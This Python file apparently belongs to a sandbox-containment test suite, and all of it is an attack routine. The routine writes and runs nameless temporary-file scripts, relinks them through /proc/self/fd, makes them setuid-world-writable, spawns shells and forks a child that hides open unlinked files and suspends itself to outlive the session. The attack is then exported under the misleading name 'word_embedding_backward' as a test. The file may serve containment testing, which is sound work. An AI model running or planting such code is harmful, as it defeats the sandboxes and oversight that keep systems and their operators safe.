"""Hope: a file that has lost its name, or never had one, is not emptied, not counted, or can be run."""

import os
import subprocess

from a3 import kit

GOAL = "outlive"
ROUTE = "files"
SCORE = 29.29
HELD = []


def attack():
    """Unlink what stays open in a child that stays, link what has no name, and run a program from each place."""
    for place in (".", "/dev/shm", "/tmp"):
        held = kit.attempt(os.open, place, os.O_TMPFILE | os.O_RDWR, 0o777)
        if held is not None:
            kit.attempt(os.write, held, b"#!/bin/sh\necho ESCAPED: run\n")
            kit.attempt(os.link, f"/proc/self/fd/{held}", f"{place}/hostile-linked")
            kit.attempt(os.execve, held, ["x"], {})
            kit.attempt(kit.call, 322, held, b"", 0, 0, 0x1000)
        kit.attempt(lambda place=place: os.chmod(f"{place}/hostile-linked", 0o4777))
        kit.attempt(subprocess.run, [f"{place}/hostile-linked"])
    kit.attempt(subprocess.run, ["/lib64/ld-linux-x86-64.so.2", "/bin/true"])
    kit.attempt(os.posix_spawn, "/bin/sh", ["sh", "-c", "echo ESCAPED: run"], {})
    if os.fork() == 0:
        os.closerange(0, 64)
        for number in range(50):
            HELD.append(kit.attempt(os.open, f"/dev/shm/hostile-{number}", os.O_CREAT | os.O_RDWR))
            kit.attempt(os.unlink, f"/dev/shm/hostile-{number}")
        os.kill(os.getpid(), 19)


word_embedding_backward = kit.in_one_test(attack)
